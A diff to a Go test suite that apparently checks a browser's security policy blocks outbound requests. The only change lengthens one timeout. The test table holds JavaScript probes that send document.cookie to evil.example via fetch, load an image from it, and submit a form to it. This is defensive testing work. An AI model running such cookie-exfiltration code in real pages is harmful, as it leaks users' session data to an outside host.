@@ -26,7 +26,7 @@ func TestABrowserRunsNothingThatIsNotOurs(t *testing.T) {
 		"telling someone else":  `fetch("https://evil.example/?" + document.cookie).then(() => false, () => true)`,
 		"an image from there":   `new Promise((done) => { const i = new Image(); i.onerror = () => done(true); i.onload = () => done(false); i.src = "https://evil.example/x.png" })`,
 		"a form that goes away": `new Promise((done) => { addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective === "form-action"), {once: true});
-			const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => done(false), 2000) })`,
+			const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => done(false), 30000) })`,
 	} {
 		if !eval[bool](p, attack) {
 			t.Errorf("%s was possible", name)
